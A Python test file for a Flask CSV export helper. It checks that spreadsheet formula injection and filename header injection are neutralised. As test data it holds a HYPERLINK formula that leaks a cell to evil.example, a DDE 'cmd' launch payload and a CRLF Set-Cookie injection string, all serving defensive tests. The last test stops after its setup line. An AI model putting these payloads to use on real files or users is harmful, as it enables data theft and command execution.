"""csv_export with the Flask test client: rows, cells, headers, streaming,
negotiation, configuration and bad options."""

from __future__ import annotations

import collections
import csv
import dataclasses
import datetime
import io
import json
import logging
import re
import sqlite3
import tracemalloc
import typing as t
import unicodedata
from decimal import Decimal
from urllib.parse import unquote

import pytest
from flask import Flask, Response, abort, request
from hypothesis import given, settings
from hypothesis import strategies as st
from werkzeug.routing import BaseConverter

from flask_respkit import RespKit, csv_export
from flask_respkit.export import (
    BATCH_ROWS,
    BROKEN_TAIL,
    content_disposition,
    escape_rows,
    escape_text,
)

Point = collections.namedtuple("Point", "x y label")


@dataclasses.dataclass
class Order:
    id: int
    total: Decimal
    note: str | None = None


def parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def route(app: Flask, decorator: t.Any, rows: t.Any, path: str = "/x") -> None:
    @app.get(path, endpoint=path)
    @decorator
    def view(**kwargs: t.Any) -> t.Any:
        return rows() if callable(rows) else rows


class Client:
    """The test client, reading each body to the end unless told not to.

    A streamed body left unread while the next request runs would pop the
    request contexts in the wrong order when it is finally closed.
    """

    def __init__(self, app: Flask) -> None:
        self.client = app.test_client()

    def get(self, url: str, **kw: t.Any) -> t.Any:
        kw.setdefault("buffered", True)
        return self.client.get(url, **kw)


def get(app: Flask, decorator: t.Any, rows: t.Any, url: str = "/x", **kw: t.Any):
    route(app, decorator, rows)
    return Client(app).get(url, **kw)


# Rows of every supported shape ------------------------------------------------


def test_dicts_with_every_kind_of_awkward_text(app: Flask) -> None:
    rows = [
        {"id": 1, "text": 'a "quoted", comma', "more": "line\nbreak"},
        {"id": 2, "text": "Zoë Ångström 大阪", "more": None},
    ]
    r = get(app, csv_export(), rows)
    assert r.status_code == 200
    assert parse(r.data) == [
        ["id", "text", "more"],
        ["1", 'a "quoted", comma', "line\nbreak"],
        ["2", "Zoë Ångström 大阪", ""],
    ]
    assert r.data.endswith(b"\r\n")
    assert b'"a ""quoted"", comma"' in r.data  # RFC 4180 quoting


def test_namedtuples_dataclasses_and_sequences(app: Flask) -> None:
    route(app, csv_export(), [Point(1, -2, "p")], "/nt")
    route(app, csv_export(), [Order(7, Decimal("-1.50"))], "/dc")
    route(app, csv_export(["a", "b"]), [(1, 2), [3, 4]], "/seq")
    route(app, csv_export(), ((i, i * i) for i in range(3)), "/gen")
    c = Client(app)
    assert parse(c.get("/nt").data) == [["x", "y", "label"], ["1", "-2", "p"]]
    assert parse(c.get("/dc").data) == [["id", "total", "note"], ["7", "-1.50", ""]]
    assert parse(c.get("/seq").data) == [["a", "b"], ["1", "2"], ["3", "4"]]
    r = c.get("/gen")
    assert parse(r.data) == [["0", "0"], ["1", "1"], ["2", "4"]]
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8; header=absent"


def test_columns_select_and_reorder_namedtuple_and_dataclass_fields(
    app: Flask,
) -> None:
    route(app, csv_export(["label", "x"]), [Point(1, 2, "p")], "/nt")
    route(app, csv_export({"note": "Note", "id": "ID"}), [Order(7, Decimal(1))], "/dc")
    c = Client(app)
    assert parse(c.get("/nt").data) == [["label", "x"], ["p", "1"]]
    assert parse(c.get("/dc").data) == [["Note", "ID"], ["", "7"]]


def test_sqlalchemy_rows() -> None:
    sqlalchemy = pytest.importorskip("sqlalchemy")
    engine = sqlalchemy.create_engine("sqlite://")
    with engine.connect() as con:
        result = con.execute(
            sqlalchemy.text("SELECT 1 AS id, 'ada' AS name UNION SELECT 2, NULL")
        ).fetchall()
    assert hasattr(result[0], "_mapping")
    app = Flask(__name__)
    route(app, csv_export(), result, "/all")
    route(app, csv_export({"name": "Name"}), result, "/named")
    c = Client(app)
    assert parse(c.get("/all").data) == [["id", "name"], ["1", "ada"], ["2", ""]]
    assert parse(c.get("/named").data) == [["Name"], ["ada"], [""]]


def test_sqlite3_rows_from_a_cursor_closed_at_the_end(app: Flask) -> None:
    con = sqlite3.connect(":memory:", check_same_thread=False)
    con.row_factory = sqlite3.Row
    con.execute("CREATE TABLE t (id INTEGER, name TEXT)")
    con.executemany("INSERT INTO t VALUES (?, ?)", [(i, f"n{i}") for i in range(3)])
    cursors: list[sqlite3.Cursor] = []

    def rows() -> sqlite3.Cursor:
        cursors.append(con.execute("SELECT * FROM t ORDER BY id"))
        return cursors[-1]

    r = get(app, csv_export({"name": "Name", "id": "Id"}), rows)
    assert parse(r.data) == [["Name", "Id"], ["n0", "0"], ["n1", "1"], ["n2", "2"]]
    with pytest.raises(sqlite3.ProgrammingError):  # closed by the export
        cursors[0].fetchone()


def test_missing_keys_are_empty_cells_and_extra_keys_ignored(app: Flask) -> None:
    rows = [{"a": 1, "b": 2}, {"b": 3, "zzz": 9}, {"a": 4}]
    r = get(app, csv_export(), rows)
    assert parse(r.data) == [["a", "b"], ["1", "2"], ["", "3"], ["4", ""]]


def test_mixed_row_types_in_one_export(app: Flask) -> None:
    rows = [{"x": 1, "y": 2, "label": "d"}, Point(3, 4, "n"), {"x": 5}]
    r = get(app, csv_export(["x", "label"]), rows)
    assert parse(r.data) == [["x", "label"], ["1", "d"], ["3", "n"], ["5", ""]]


@pytest.mark.parametrize("bad", ["a string", 42, None, b"bytes"])
def test_a_row_that_is_not_a_row_is_a_clear_error(app: Flask, bad: t.Any) -> None:
    route(app, csv_export(), [bad])
    with pytest.raises(TypeError, match="csv_export rows must be mappings"):
        Client(app).get("/x")


def test_a_mapping_after_unnamed_rows_asks_for_columns(app: Flask) -> None:
    route(app, csv_export(), [(1, 2), {"a": 1}])
    r = Client(app).get("/x", buffered=False)
    with pytest.raises(TypeError, match="pass columns="):
        b"".join(r.response)


# Cells -----------------------------------------------------------------------


def test_cells_none_numbers_bools_decimals_and_dates(app: Flask) -> None:
    row = (
        None,
        -3,
        0.1,
        -2.5e-10,
        True,
        Decimal("-0.10"),
        datetime.date(2024, 2, 29),
        datetime.datetime(2024, 2, 29, 13, 5, 1),
        "",
    )
    r = get(app, csv_export(), [row])
    cells = parse(r.data)[0]
    assert cells == [
        "",
        "-3",
        "0.1",
        "-2.5e-10",
        "True",
        "-0.10",
        "2024-02-29",
        "2024-02-29 13:05:01",
        "",
    ]
    assert float(cells[3]) == -2.5e-10


FORMULAS = ["=1+1", "+1+1", "-x", "@SUM(A1)", "\tx", "\rx", "\nx", '=HYPERLINK("a")']


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_quote_prefix(app: Flask, text: str) -> None:
    r = get(app, csv_export(), [{"a": text, "n": -1, "f": -0.5, "d": "2024-01-02"}])
    assert parse(r.data)[1] == ["'" + text, "-1", "-0.5", "2024-01-02"]


def test_escaping_in_every_batch_and_column_shape(app: Flask) -> None:
    n = BATCH_ROWS * 3 + 7

    def rows() -> t.Iterator[tuple[t.Any, ...]]:
        for i in range(n):
            risky = i % 997 == 0
            yield (
                -i,
                "=cmd" if risky else f"name {i}",
                None if i % 2 else ("-note" if risky else "note"),
                Decimal(-i) if i % 3 else f"@{i}",  # a mixed column
                datetime.date(2024, 1, 1),
            )

    cells = parse(get(app, csv_export(), rows).data)
    assert len(cells) == n
    for i, row in enumerate(cells):
        risky = i % 997 == 0
        # A reader splitting on ";" sees the line "-i,name i,..." as one cell:
        # the first number runs on into a name, so it gets its "'".
        assert row[0] == (f"'{-i}" if i else "0")
        assert row[1] == ("'=cmd" if risky else f"name {i}")
        assert row[2] == ("" if i % 2 else ("'-note" if risky else "note"))
        assert row[3] == (str(-i) if i % 3 else f"'@{i}")
        assert row[4] == "2024-01-01"


def test_ragged_rows_are_escaped_too(app: Flask) -> None:
    r = get(app, csv_export(), [("=a",), ("b", "+c", -1)])
    assert parse(r.data) == [["'=a"], ["b", "'+c", "-1"]]


def test_other_objects_are_escaped_by_their_text(app: Flask) -> None:
    class Cmd:
        def __str__(self) -> str:
            return "=cmd"

    class Name(str):
        pass

    r = get(app, csv_export(), [(Cmd(), Name("-x"), Name("ok"))])
    assert parse(r.data) == [["'=cmd", "'-x", "ok"]]


def test_numpy_and_pandas_values_are_numbers_and_dates() -> None:
    np = pytest.importorskip("numpy")
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame(
        {
            "n": np.array([-3, 4], dtype="int64"),
            "f": [-1.5, 2.25],
            "at": pd.to_datetime(["2024-01-02 00:00", "2024-03-04 05:06"]),
            "s": ["-x", "ok"],
        }
    )
    app = Flask(__name__)
    route(app, csv_export(), lambda: frame.itertuples(index=False))
    assert parse(Client(app).get("/x").data) == [
        ["n", "f", "at", "s"],
        # NumPy's -3 is a number: it gets a "'" only because a ";" reader
        # sees it run on, through this line, into a time and text.
        ["'-3", "-1.5", "2024-01-02 00:00:00", "'-x"],
        ["4", "2.25", "2024-03-04 05:06:00", "ok"],
    ]


def test_escape_formulas_off_writes_cells_as_they_are(app: Flask) -> None:
    r = get(app, csv_export(escape_formulas=False), [{"a": "=1+1", "b": "-x"}])
    assert parse(r.data) == [["a", "b"], ["=1+1", "-x"]]


def test_header_labels_from_data_are_escaped(app: Flask) -> None:
    r = get(app, csv_export(), [{"=evil": 1}])
    assert parse(r.data)[0] == ["'=evil"]


@settings(max_examples=60, deadline=None)
@given(
    st.integers(1, 5).flatmap(
        lambda width: st.lists(
            st.lists(
                st.one_of(
                    st.none(),
                    st.integers(),
                    st.floats(allow_nan=False),
                    st.text(st.characters(exclude_categories=("Cs",))),
                ),
                min_size=width,
                max_size=width,
            ),
            max_size=20,
        )
    )
)
def test_any_cells_round_trip_exactly_with_escaping_off(
    rows: list[list[t.Any]],
) -> None:
    app = Flask(__name__)
    route(app, csv_export(escape_formulas=False), rows)
    body = Client(app).get("/x").data
    expected = [["" if c is None else str(c) for c in row] for row in rows]
    assert parse(body) == expected
    for row, parsed in zip(rows, parse(body)):
        for cell, text in zip(row, parsed):
            if isinstance(cell, float):
                assert float(text) == cell


# The formula escape, cell by cell ------------------------------------------------

#: Where a reader may start a cell inside a string: after a separator, or at a
#: line break (a reader splitting on another separator misses the quotes).
SEPARATORS = [",", ";", "\t", '"']
BREAKS = [
    "\n",
    "\r",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
]
#: What may come between a cell start and the trigger: every control, format,
#: space and line-separator character, as Unicode classifies them.
BLANKS = [
    c
    for c in map(chr, [*range(0x10000), 0x110BD, 0x1D173, 0xE0001, 0xE0041])
    if unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp")
]
NUMBER = re.compile(
    r" *[+-]?(?:[0-9]+(?:[.,][0-9]+)*[.,]?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?%? *"
)


def cell_starts(text: str) -> t.Iterator[tuple[str, str]]:
    """Every text a spreadsheet may take as a cell in ``text`` but the whole
    string, each with the characters that make it a formula after blanks:
    what follows each separator up to the next one or a line break (there a
    new row starts), and each line after the first."""
    lines = re.split("|".join(map(re.escape, BREAKS)), text)
    for line in lines[1:]:
        yield line, "=+-@"
    for sep in SEPARATORS:
        for line in lines:
            for piece in line.split(sep)[1:]:
                yield piece, "=+-@\t\x00"


def starts_a_formula(piece: str, triggers: str) -> bool:
    for char in piece:
        if char in triggers:
            return True
        if unicodedata.category(char) not in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            return False
    return False


def assert_neutral(escaped: str) -> None:
    """No cell a spreadsheet may see in ``escaped`` starts a formula, unless
    it is a number literal (for the whole string: the whole of it)."""
    if starts_a_formula(escaped, "=+-@\t\r\n\x00"):
        assert NUMBER.fullmatch(escaped), escaped
    for piece, triggers in cell_starts(escaped):
        if starts_a_formula(piece, triggers):
            assert NUMBER.fullmatch(piece), (piece, escaped)


def assert_only_quotes_added(text: str, escaped: str) -> None:
    rest = iter(escaped)
    for char in text:  # text is a subsequence of escaped ...
        assert any(c == char for c in rest), (text, escaped)
    # ... and everything added is a quote.
    assert sorted(escaped.replace("'", "")) == sorted(text.replace("'", ""))


ISSUE_CELLS = {
    '\x00=HYPERLINK("http://evil.example/?"&B1)': (
        '\'\x00=HYPERLINK("http://evil.example/?"&B1)'
    ),
    'Mallory;=HYPERLINK("http://x")': 'Mallory;\'=HYPERLINK("http://x")',
    "Eve\t=1+1": "Eve\t'=1+1",
    "  =1+1": "'  =1+1",
    "-42": "-42",
    "+1.5e3": "+1.5e3",
}


@pytest.mark.parametrize(("text", "expected"), ISSUE_CELLS.items())
def test_the_cells_of_the_review_are_neutralised(
    app: Flask, text: str, expected: str
) -> None:
    assert escape_text(text) == expected
    r = get(app, csv_export(), [("a", text)])
    assert parse(r.data) == [["a", expected]]


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n", "\x00"])
def test_a_trigger_after_blanks_is_neutralised(trigger: str) -> None:
    for blank in BLANKS:
        for text in (f"{blank}{trigger}1+1", f"{blank * 3}{trigger}HYPERLINK(1)"):
            escaped = escape_text(text)
            assert escaped.startswith("'"), repr(text)
            assert_neutral(escaped)
            assert_only_quotes_added(text, escaped)


@pytest.mark.parametrize("sep", SEPARATORS + BREAKS + ["\r\n"])
@pytest.mark.parametrize("trigger", ["=", "+", "-", "@"])
def test_a_trigger_after_a_separator_or_line_break_is_neutralised(
    sep: str, trigger: str
) -> None:
    for blank in ["", " ", "   ", "\x00", "\xa0", "\u200b", "\ufeff", "\u3000"]:
        text = f"Mallory{sep}{blank}{trigger}HYPERLINK(1)"
        escaped = escape_text(text)
        assert escaped.endswith(f"'{blank}{trigger}HYPERLINK(1)"), repr(escaped)
        assert escaped.startswith("Mallory")
        assert_neutral(escaped)
        assert_only_quotes_added(text, escaped)


@pytest.mark.parametrize("sep", SEPARATORS)
@pytest.mark.parametrize("control", ["\t", "\x00"])
def test_a_tab_or_nul_starting_a_cell_inside_is_neutralised(
    sep: str, control: str
) -> None:
    text = f"a{sep}{control}b"
    if sep == control:  # a TAB after a TAB: the empty cell between them
        assert escape_text(text) == text
    else:
        assert escape_text(text) == f"a{sep}'{control}b"


@pytest.mark.parametrize("sep", SEPARATORS)
@pytest.mark.parametrize("blank", [b for b in BLANKS if b not in [*BREAKS, "\t"]])
def test_a_trigger_after_inner_blanks_is_neutralised(sep: str, blank: str) -> None:
    text = f"Mallory{sep}{blank}{blank}=1+1"
    assert escape_text(text) == f"Mallory{sep}'{blank}{blank}=1+1"


@pytest.mark.parametrize(
    "text",
    [
        "leave at the door,\nring twice",
        "Street 1;\r\nCity",
        'quoted "\nitem',
        "a\t\tb",
        "a\t\t\t",
        "a,\n\nb",
    ],
)
def test_a_line_break_ends_the_cell_inside_a_string(text: str) -> None:
    # The cell after the separator is empty; the next line is checked on its own.
    assert escape_text(text) == text
    assert escape_text(text + "\n=1") == text + "\n'=1"


@pytest.mark.parametrize(
    "text",
    [
        "-42",
        "+42",
        "-1.5",
        "+1.5e3",
        "-2.5E-10",
        "-.5",
        " -7 ",
        "-1,234.50",
        "-0,5",
        "-12%",
        "1,-2",
        "3; -4",
        "x\t-1",
        'He said "-5"',
        "Totals:\n-42\n+17",
        "Totals:\r\n-42\r\n+17",
        "a\n\nb",
        "Items:\n\n\nend",
        "alice@example.com",
        "2024-01-02",
        "3 - 1 = 2",
        "note; call back",
    ],
)
def test_number_literals_and_plain_text_are_left_alone(app: Flask, text: str) -> None:
    assert escape_text(text) == text
    rows = [(text, i) for i in range(BATCH_ROWS + 3)]
    r = get(app, csv_export(), rows)
    assert {row[0] for row in parse(r.data)} == {text}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("-1+2", "'-1+2"),
        ("+1 555 0100", "'+1 555 0100"),  # a phone number is not a number literal
        ("-inf", "'-inf"),
        ("-E5", "'-E5"),
        ("--1", "'--1"),
        ("-0x1F", "'-0x1F"),
        ("- 5", "'- 5"),
        ("-1,-2", "'-1,-2"),
        ("-\u0661\u0662", "'-\u0661\u0662"),  # Arabic-Indic digits
        ("-\uff15", "'-\uff15"),  # a fullwidth digit
        ("\t-42", "'\t-42"),
        ("\xa0-42", "'\xa0-42"),
        ("-42\n=1", "'-42\n'=1"),
        ("-42\r\n+17", "'-42\r\n+17"),
        ("a\r\n=1", "a\r\n'=1"),
        ("-42;=1", "'-42;'=1"),
        ("a,-5;=1", "a,'-5;'=1"),
        ("Items:\n- one\n- two", "Items:\n'- one\n'- two"),
    ],
)
def test_text_that_only_looks_like_a_number_is_escaped(
    text: str, expected: str
) -> None:
    assert escape_text(text) == expected
    assert_neutral(expected)


hostile_text = st.text(
    st.one_of(
        st.sampled_from(
            [*"=+-@\t\r\n\x00 ,;\"'a1.%eE", "\xa0", "\u200b", "\u2028", "\x85"]
        ),
        st.characters(exclude_categories=("Cs",)),
    ),
    max_size=24,
)


@settings(max_examples=400, deadline=None)
@given(hostile_text)
def test_any_text_is_neutralised_by_adding_quotes_only(text: str) -> None:
    escaped = escape_text(text)
    assert_neutral(escaped)
    assert_only_quotes_added(text, escaped)
    assert escape_text(escaped) == escaped


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.one_of(st.none(), hostile_text),
            hostile_text,
            st.one_of(st.none(), st.integers(), hostile_text),
        ),
        min_size=1,
        max_size=12,
    )
)
def test_the_column_scan_escapes_exactly_what_each_cell_needs(
    rows: list[tuple[t.Any, ...]],
) -> None:
    expected = [
        tuple(escape_text(c) if isinstance(c, str) else c for c in row) for row in rows
    ]
    assert [tuple(row) for row in escape_rows(list(rows))] == expected


def test_a_hostile_cell_is_found_in_any_row_of_a_batch(app: Flask) -> None:
    hostile = [
        "x;=1+1",
        "x\n@SUM(A1)",
        'x"+1+1',
        "x,\t=1",
        "x\u2028-A1",
        "  =1",
        "\x00=1",
    ]
    n = BATCH_ROWS * 2

    def rows() -> t.Iterator[tuple[t.Any, ...]]:
        for i in range(n):
            cell = hostile[i // 97 % len(hostile)] if i % 97 == 13 else f"n {i}"
            yield (i, cell, "2024-01-02", None if i % 3 else "a; b")

    cells = parse(get(app, csv_export(), rows).data)
    assert len(cells) == n
    for i, row in enumerate(cells):
        if i % 97 == 13:
            text = hostile[i // 97 % len(hostile)]
            assert row[1] == escape_text(text) != text
        else:
            assert row[1] == f"n {i}"


# Numbers that run on for a reader splitting on another separator ---------------

DDE = "5+cmd|' /C calc'!A0"


class SemicolonDialect(csv.excel):
    delimiter = ";"


def export_lines(rows: list[t.Sequence[t.Any]], dialect: t.Any = "excel") -> str:
    """The body ``csv_export`` writes for ``rows`` (no header), through the
    test client."""
    app = Flask(__name__)

    @app.get("/x")
    @csv_export(header=False, dialect=dialect)
    def view() -> t.Any:
        return iter(rows)

    r = app.test_client().get("/x")
    assert r.status_code == 200
    return r.get_data(as_text=True)


@pytest.mark.parametrize(
    ("row", "line"),
    [
        # The review's row: a ";" reader sees "-1,5+cmd|..." as one cell.
        ((-1, DDE), f"'-1,{DDE}"),
        (("-1", DDE), f"'-1,{DDE}"),
        ((Decimal("-1.50"), DDE), f"'-1.50,{DDE}"),
        ((-0.5, "x"), "'-0.5,x"),
        ((" -7 ", "SUM(A1)"), "' -7 ,SUM(A1)"),
        (("+1", "A1"), "'+1,A1"),
        ((-1, "Refund"), "'-1,Refund"),  # a name: may be a formula
        ((-1, None, "x"), "'-1,,x"),
        ((-1, 2, "3!A0"), "'-1,2,3!A0"),
        # A number after a ";" or TAB, or a line break, inside a string.
        (("x;-1", DDE), f"x;'-1,{DDE}"),
        (("x\t-1", DDE), f"x\t'-1,{DDE}"),
        (("Totals:\n-42", "x"), '"Totals:\n\'-42",x'),
        # After a quote: the field is quoted, its closing quote ends the cell.
        (('He said "-5', "x"), '"He said ""-5",x'),
        # Plain numeric lines, and numbers that end where the reader's cell
        # ends, stay as they are.
        ((-1, 2.5, -3), "-1,2.5,-3"),
        ((-1, "2,5", None, "-3%"), '-1,"2,5",,-3%'),
        ((-1, "1e-05", 1e-05, "+2E+3"), "-1,1e-05,1e-05,+2E+3"),
        ((-1, "2024-01-02"), "-1,2024-01-02"),
        ((-1,), "-1"),
        ((1, -1, DDE), f"1,-1,{DDE}"),  # "-1" starts no cell but for ","
        (("x;-1;", DDE), f"x;-1;,{DDE}"),
        (("x;-1", 2), "x;-1,2"),
        (("Totals:\n-42\n", "x"), '"Totals:\n-42\n",x'),
    ],
)
def test_a_number_that_would_run_on_into_a_formula_is_neutralised(
    row: tuple[t.Any, ...], line: str
) -> None:
    assert export_lines([row]) == line + "\r\n"


@pytest.mark.parametrize(
    ("row", "line"),
    [
        # TAB as delimiter: "," and ";" readers; a field after a field that
        # ends with their separator (and blanks) starts their cell.
        ((-1, DDE), f"'-1\t{DDE}"),
        (("a;", -1, DDE), f"a;\t'-1\t{DDE}"),
        (("a,", None, " -1", DDE), f"a,\t\t' -1\t{DDE}"),
        ((None, -1, "x"), "\t'-1\tx"),
        (("a", -1, DDE), f"a\t-1\t{DDE}"),
        (("x,-1", DDE), f"x,'-1\t{DDE}"),
        ((-1, 2.5, -3), "-1\t2.5\t-3"),
    ],
)
def test_with_tab_as_delimiter_the_other_readers_are_guarded(
    row: tuple[t.Any, ...], line: str
) -> None:
    assert export_lines([row], "excel-tab") == line + "\r\n"


@pytest.mark.parametrize(
    ("row", "line"),
    [
        ((-1, DDE), f"'-1;{DDE}"),
        (("-1,5", DDE), f"'-1,5;{DDE}"),  # a TAB reader sees "-1,5;5+cmd|..."
        (("x,-1", DDE), f"x,'-1;{DDE}"),
        (("x;-1", DDE), f'"x;-1";{DDE}'),  # quoted: a ";" reader reads it whole
        ((-1, 2.5, -3), "-1;2.5;-3"),
    ],
)
def test_with_semicolon_as_delimiter_the_other_readers_are_guarded(
    row: tuple[t.Any, ...], line: str
) -> None:
    assert export_lines([row], SemicolonDialect) == line + "\r\n"


def test_the_guard_finds_its_rows_in_any_batch(app: Flask) -> None:
    n = BATCH_ROWS * 2 + 7

    def rows() -> t.Iterator[tuple[t.Any, ...]]:
        for i in range(n):
            first = -i if i % 3 == 0 else i
            yield (first, DDE if i % 5 == 0 else f"n {i}", -i)

    route(app, csv_export(header=False), rows)
    cells = parse(Client(app).get("/x").data)
    assert len(cells) == n
    for i, row in enumerate(cells):
        first = -i if i % 3 == 0 else i
        # Only a negative first number followed by text is neutralised: "n i"
        # is a name, and DDE worse.
        expected = f"'{first}" if first < 0 else str(first)
        assert row == [expected, DDE if i % 5 == 0 else f"n {i}", str(-i)]


def test_ragged_rows_are_guarded_too(app: Flask) -> None:
    route(app, csv_export(header=False), [(-1, DDE), (-2, 3, -4), ("x;-5", DDE, 1)])
    assert parse(Client(app).get("/x").data) == [
        ["'-1", DDE],
        ["-2", "3", "-4"],
        ["x;'-5", DDE, "1"],
    ]


# The oracle, written without the escaping code: split each written line as a
# reader on another separator does (missing the quotes, so every line break
# ends a row) and look at what each cell may hold.

#: A number as a spreadsheet in any locale reads it.
ORACLE_NUMBER = re.compile(r"[0-9]+(?:[.,][0-9]+)*(?:[eE][+-]?[0-9]+)?")
#: What may stand between numbers without making anything but arithmetic on
#: constants: signs, decimal and list separators, quotes, percent, spaces.
ORACLE_PUNCTUATION = set("+-.,;%\"' \t")


def oracle_could_be_formula(cell: str) -> bool:
    """Whether a cell may be a formula that calls or refers to anything: it
    starts with = + - @ (after what a spreadsheet skips: controls, format
    characters, spaces, quotes) and holds more than numbers and
    punctuation."""
    i = 0
    while i < len(cell) and (
        cell[i] == '"' or unicodedata.category(cell[i]) in ("Cc", "Cf", "Zs")
    ):
        i += 1
    if i == len(cell) or cell[i] not in "=+-@":
        return False
    if cell[i] in "=@":
        return True
    rest = ORACLE_NUMBER.sub("", cell[i:])
    return not set(rest) <= ORACLE_PUNCTUATION


def oracle_formulas(body: str, delimiter: str) -> list[str]:
    found = []
    for line in body.splitlines():
        for sep in ",;\t":
            if sep != delimiter:
                found += [c for c in line.split(sep) if oracle_could_be_formula(c)]
    return found


def test_the_oracle_sees_the_run_on_of_the_review() -> None:
    raw = f"-1,{DDE}"
    assert oracle_formulas(raw, ",") == [raw, raw]  # split on ";" and on TAB
    assert oracle_formulas(raw, ";") == [raw]  # on TAB; on ",": "-1" and more
    assert oracle_formulas("-1,2.5,-3", ",") == []
    assert oracle_formulas("'-1,5+cmd", ",") == []
    assert oracle_formulas('x,"a\n-1",cmd', ",") == ['-1",cmd', '-1",cmd']


run_on_text = st.lists(
    st.sampled_from(
        [*"0123456789+-=@.,;%\"' \t\n\r|(!:$eEAx", "\xa0", "\x00", "cmd|", "SUM("]
    ),
    max_size=10,
).map("".join)
run_on_cell = st.one_of(
    st.none(),
    st.integers(-1000, 1000),
    # A number's own text is never changed, and inf is written as a word
    # ("-inf"): only finite numbers, whose text is a number literal.
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.decimals(allow_nan=False, allow_infinity=False, places=2),
    run_on_text,
    st.sampled_from(["-1", "+1.5e3", "-1,234.50", " -7 ", DDE, "x;-1", "Refund"]),
)
DIALECTS = {",": "excel", ";": SemicolonDialect, "\t": "excel-tab"}


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(sorted(DIALECTS)),
    st.lists(st.lists(run_on_cell, min_size=1, max_size=5), min_size=1, max_size=6),
)
def test_no_reader_on_another_separator_sees_a_formula(
    delimiter: str, rows: list[list[t.Any]]
) -> None:
    body = export_lines(rows, DIALECTS[delimiter])
    assert oracle_formulas(body, delimiter) == [], body
    # Only quotes were added: the file's own reader reads each cell back with
    # its text, a ' inserted here and there.
    read = list(csv.reader(io.StringIO(body, newline=""), DIALECTS[delimiter]))
    assert len(read) == len(rows)
    for written, row in zip(read, rows):
        assert len(written) == len(row)
        for text, cell in zip(written, row):
            original = "" if cell is None else str(cell)
            original = original.replace("\r\n", "\n").replace("\r", "\n")
            text = text.replace("\r\n", "\n").replace("\r", "\n")
            assert_only_quotes_added(original, text)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(sorted(DIALECTS)),
    st.lists(
        st.lists(
            st.one_of(
                st.none(),
                st.integers(),
                # inf and NaN are written as words ("-inf" is not plain)
                st.floats(allow_nan=False, allow_infinity=False),
                st.decimals(allow_nan=False, allow_infinity=False),
                st.sampled_from(["-42", "+1.5e3", "-1,234.50", "-12%", "-.5"]),
            ),
            min_size=1,
            max_size=6,
        ),
        min_size=1,
        max_size=6,
    ),
)
def test_plain_numeric_lines_are_left_as_they_are(
    delimiter: str, rows: list[list[t.Any]]
) -> None:
    plain = io.StringIO()
    csv.writer(plain, DIALECTS[delimiter]).writerows(rows)
    assert export_lines(rows, DIALECTS[delimiter]) == plain.getvalue()


# Response headers ------------------------------------------------------------


def test_content_type_says_whether_a_header_row_is_there(app: Flask) -> None:
    route(app, csv_export(), [{"a": 1}], "/with")
    route(app, csv_export(header=False), [{"a": 1}], "/without")
    c = Client(app)
    r = c.get("/with")
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    r = c.get("/without")
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8; header=absent"
    assert r.data == b"1\r\n"
    assert "Content-Disposition" not in r.headers


@pytest.mark.parametrize(
    ("name", "header"),
    [
        (
            "orders.csv",
            "attachment; filename=\"orders.csv\"; filename*=UTF-8''orders.csv",
        ),
        (
            "Résumé 2024 ✓.csv",
            'attachment; filename="Resume 2024 _.csv";'
            " filename*=UTF-8''R%C3%A9sum%C3%A9%202024%20%E2%9C%93.csv",
        ),
        (
            'a"b\\c/d;e%.csv',
            'attachment; filename="a_b_c_d;e_.csv";'
            " filename*=UTF-8''a%22b_c_d%3Be%25.csv",
        ),
    ],
)
def test_content_disposition_has_an_ascii_fallback_and_the_exact_name(
    app: Flask, name: str, header: str
) -> None:
    r = get(app, csv_export(filename=name), [{"a": 1}])
    assert r.headers["Content-Disposition"] == header


def test_filename_callable_gets_the_view_arguments(app: Flask) -> None:
    @app.get("/shops/<int:shop>/orders.csv")
    @csv_export(filename=lambda shop: f"shop-{shop}-{request.args['q']}.csv")
    def orders(shop: int) -> list[dict[str, int]]:
        return [{"shop": shop}]

    r = Client(app).get("/shops/3/orders.csv?q=x%0D%0ASet-Cookie:%20a=b/..")
    value = r.headers["Content-Disposition"]
    assert not {"\r", "\n", "/"} & set(value)
    assert value.startswith('attachment; filename="shop-3-x__Set-Cookie: a=b_.__csv"')
    assert ".." not in value
    assert "Set-Cookie" not in r.headers


def test_filename_callable_may_return_none(app: Flask) -> None:
    r = get(app, csv_export(filename=lambda **kw: None), [{"a": 1}])
    assert "Content-Disposition" not in r.headers


def test_bom_for_excel(app: Flask) -> None:
    r = get(app, csv_export(bom=True), [{"a": "é"}])
    assert r.data == b"\xef\xbb\xbfa\r\n\xc3\xa9\r\n"
    assert r.data.decode("utf-8-sig").startswith("a\r\n")


# Return forms ----------------------------------------------------------------


def test_flask_tuple_forms(app: Flask) -> None:
    rows = [{"a": 1}]
    route(app, csv_export(), lambda: (rows, 201), "/status")
    route(app, csv_export(), lambda: (rows, {"X-Total": "1"}), "/headers")
    route(app, csv_export(), lambda: (rows, 202, [("X-Total", "1")]), "/both")
    route(
        app,
        csv_export(filename="a.csv"),
        lambda: (rows, {"Content-Disposition": "inline"}),
        "/over",
    )
    c = Client(app)
    assert c.get("/status").status_code == 201
    r = c.get("/headers")
    assert (r.status_code, r.headers["X-Total"], parse(r.data)) == (
        200,
        "1",
        [["a"], ["1"]],
    )
    r = c.get("/both")
    assert (r.status_code, r.headers["X-Total"]) == (202, "1")
    assert c.get("/over").headers["Content-Disposition"] == "inline"


def test_a_tuple_is_never_rows(app: Flask) -> None:
    route(app, csv_export(), lambda: ((1, 2), (3, 4), (5, 6)))
    with pytest.raises(TypeError, match="return a list or a generator"):
        Client(app).get("/x")


def test_a_response_passes_through_untouched(app: Flask) -> None:
    sent = Response("plain", 418, {"X-A": "b"})
    r = get(app, csv_export(filename="x.csv", negotiate=True), lambda: sent)
